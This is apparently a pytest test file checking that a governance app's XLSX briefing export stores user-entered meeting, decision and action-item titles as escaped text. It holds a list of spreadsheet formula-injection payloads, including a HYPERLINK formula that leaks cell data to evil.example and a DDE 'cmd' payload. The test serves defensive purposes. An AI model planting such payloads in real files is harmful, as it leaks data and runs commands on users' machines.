"""The briefing workbook writes user text as text, never as a live formula (issue 9 item 7):
a meeting or action item titled `=HYPERLINK(…)` must not run when the leader opens the file."""

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from chainlead.governance import briefing, services

JUNE = dt.datetime(2026, 6, 10, 9, tzinfo=dt.UTC)
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("title", INJECTIONS)
def test_titles_and_decisions_are_written_as_text(chain, member, leader, title):
    meeting = services.meeting_create(actor=member, chain=chain, title=title, held_at=JUNE)
    services.decision_create(actor=member, meeting=meeting, text=title)
    services.action_item_create(
        actor=member,
        chain=chain,
        meeting=meeting,
        title=title,
        owner=member,
        deadline=dt.date(2026, 6, 20),
    )
    data = briefing.briefing_data(user=leader, chain=chain, month="2026-06")
    wb = load_workbook(io.BytesIO(briefing.render_xlsx(data)))
    decision = next(wb["Decisions"].iter_rows(min_row=2))
    action = next(wb["Action items"].iter_rows(min_row=2))
    for cell in (decision[0], decision[2], action[0]):
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert cell.value == "'" + title
